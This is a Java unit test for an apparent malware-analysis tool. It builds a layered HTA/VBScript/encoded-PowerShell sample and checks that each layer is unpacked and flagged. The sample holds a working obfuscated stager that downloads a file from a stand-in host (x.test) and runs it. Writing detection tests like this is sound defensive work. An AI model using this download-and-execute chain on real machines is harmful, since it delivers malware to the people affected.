package org.atalaya.evidence.script;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.atalaya.evidence.Formats;
import org.atalaya.evidence.artifact.Artifacts;
import org.atalaya.evidence.artifact.Options;
import org.atalaya.model.Artifact;
import org.atalaya.model.Content;
import org.atalaya.model.Fact;
import org.atalaya.model.Notice;
import org.junit.jupiter.api.Test;

/** Layers within layers, read by the whole tree. */
class LayersTest {
    @Test
    void everyLayerOfAPageDownToTheLastCommandIsAnArtifactWithItsFacts() throws IOException {
        String last = "(New-Object Net.WebClient).DownloadFile('http://x.test/a','a.txt'); Start-Process a.txt";
        String zipped = "IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream]"
                + "[Convert]::FromBase64String('" + Base64.getEncoder().encodeToString(gzip(last))
                + "'))))).ReadToEnd()";
        String command = "powershell -nop -enc " + Base64.getEncoder().encodeToString(zipped.getBytes(UTF_16LE));
        StringBuilder codes = new StringBuilder();
        for (char c : ("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"" + command + "\"").toCharArray()) {
            codes.append(codes.isEmpty() ? "" : " & ")
                    .append("Chr(")
                    .append((int) c)
                    .append(')');
        }
        String page = "<html><hta:application><script language=vbscript>\r\nExecute " + codes + "\r\n</script></html>";
        List<Artifact> tree = read(page.getBytes(ISO_8859_1));
        assertThat(tree).extracting(Artifact::type).startsWith("hta", "vbs");
        assertThat(facts(tree))
                .contains("html.application", "script.evaluates-text", "script.encoded-command", "script.holds-file");
        Artifact end = tree.getLast();
        assertThat(end.facts()).extracting(Fact::code).contains("behaviour.downloads-and-runs");
        assertThat(end.size()).isEqualTo(last.length());
    }

    @Test
    void aLayerThatHoldsItselfEndsAtTheLimit() throws IOException {
        String script = "iex 'iex ''iex ''''iex \"iex 1\" + \"2\"'''' '' '";
        assertThat(read(script.getBytes(ISO_8859_1))).hasSizeLessThan(20);
    }

    private static List<String> facts(List<Artifact> tree) {
        return tree.stream()
                .flatMap(artifact -> artifact.facts().stream())
                .map(Fact::code)
                .toList();
    }

    private static List<Artifact> read(byte[] bytes) throws IOException {
        List<Artifact> tree = new ArrayList<>();
        Formats.ALL.read(Content.of(bytes), "test", Options.STANDARD, new Artifacts.Visitor() {
            @Override
            public void artifact(Artifact artifact, Content content) {
                tree.add(artifact);
            }

            @Override
            public void notice(Notice notice) {
                assertThat(notice.detail()).doesNotContain("defect");
            }
        });
        return tree;
    }

    private static byte[] gzip(String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(text.getBytes(ISO_8859_1));
        }
        return out.toByteArray();
    }
}
